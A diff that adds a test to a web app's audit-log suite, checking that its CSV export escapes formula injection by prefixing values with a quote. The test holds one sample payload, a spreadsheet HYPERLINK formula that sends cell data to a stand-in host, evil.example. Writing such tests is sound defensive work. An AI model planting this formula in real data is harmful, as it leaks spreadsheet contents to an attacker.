@@ -55,3 +55,19 @@ def test_one_partner_never_sees_the_others_entries(app, auth):
     type(auth)(globex).sign_in("globex")
     assert "admin@acme.example" not in text_of(globex.get("/audit/"))
     assert "admin@globex.example" not in text_of(acme.get("/audit/"))
+
+
+def test_the_csv_export_writes_a_formula_typed_into_a_name_as_text(app, client, auth):
+    from webapp.actor import Actor
+
+    auth.sign_in("acme")
+    with client.session_transaction() as stored:
+        partner_id = stored["partner"]["id"]
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    with app.app_context():
+        Actor("admin@acme.example", partner_id, "sandbox").audit("key_created", formula, detail="@SUM(1+1)")
+    response = client.get("/audit/export.csv?action=key_created")
+    assert response.is_streamed
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert rows[0]["target"] == "'" + formula and rows[0]["detail"] == "'@SUM(1+1)"
+    assert rows[0]["actor"] == "admin@acme.example"
